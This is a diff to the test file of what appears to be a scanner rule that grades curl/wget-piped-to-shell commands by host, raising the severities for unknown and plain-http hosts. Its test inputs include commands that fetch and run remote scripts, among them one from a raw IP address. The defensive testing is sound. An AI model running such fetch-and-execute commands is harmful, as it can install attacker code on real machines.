@@ -24,8 +24,9 @@ def test_fixtures_hold():
 def test_download_pipe_graded_by_host():
     assert top("IG502", "`curl --proto '=https' -sSf https://sh.rustup.rs | sh`\n") == Severity.LOW
     assert top("IG502", "`curl -sL https://aka.ms/InstallAzureCLIDeb | sudo bash`\n") == Severity.LOW
-    assert top("IG502", "`curl -fsSL https://get.unknown-tool.io/install.sh | bash`\n") == Severity.MEDIUM
-    assert top("IG502", "`curl -fsSL http://get.unknown-tool.io/install.sh | bash`\n") == Severity.HIGH
+    # issue 14 item 6: an unknown host is high (the Action's default fail-on), plain http critical
+    assert top("IG502", "`curl -fsSL https://get.unknown-tool.io/install.sh | bash`\n") == Severity.HIGH
+    assert top("IG502", "`curl -fsSL http://get.unknown-tool.io/install.sh | bash`\n") == Severity.CRITICAL
     assert top("IG502", "`wget -qO- http://91.92.242.30/x | sh`\n") == Severity.CRITICAL
     assert top("IG502", "`curl -s https://glot.io/snippets/abc/raw | bash`\n") == Severity.CRITICAL
     assert top("IG502", "`bash <(curl -s https://gist.githubusercontent.com/u/1/raw/i.sh)`\n") == Severity.CRITICAL
